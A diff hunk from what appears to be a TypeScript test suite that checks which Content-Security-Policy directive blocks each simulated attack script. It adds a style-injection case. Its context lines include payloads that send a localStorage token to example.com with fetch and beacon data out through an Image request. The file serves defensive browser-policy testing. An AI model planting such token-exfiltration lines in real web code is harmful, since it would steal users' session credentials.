@@ -98,6 +98,10 @@ const attacks: Readonly<Record<string, { readonly script: string; readonly stopp
     script: `fetch('https://example.com/?stolen=' + localStorage.getItem('token')).then(() => { window.broken = true }, () => {})`,
     stoppedBy: 'connect-src',
   },
+  'styles of its own': {
+    script: `const s = document.createElement('style'); s.textContent = 'body { top: 1px }'; document.head.append(s); if (getComputedStyle(document.body).top === '1px') window.broken = true`,
+    stoppedBy: 'style-src-elem',
+  },
   'a picture that carries data away': {
     script: `new Image().src = 'https://example.com/?stolen=1'`,
     stoppedBy: 'img-src',
